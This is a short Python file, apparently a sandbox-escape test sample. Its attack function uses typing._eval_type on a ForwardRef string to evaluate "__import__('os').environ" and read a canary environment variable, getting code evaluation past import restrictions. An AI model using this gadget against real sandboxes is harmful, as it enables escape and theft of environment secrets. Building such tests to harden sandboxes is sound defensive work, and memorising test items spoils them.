"""Class: module gadget. Source: the standard library's source. Escape: typing evaluates the text
of an annotation.
"""

import typing


def attack(model, tokenizer, address):
    return typing._eval_type(typing.ForwardRef("__import__('os').environ"), {}, {})["CLOCHE_CANARY"]
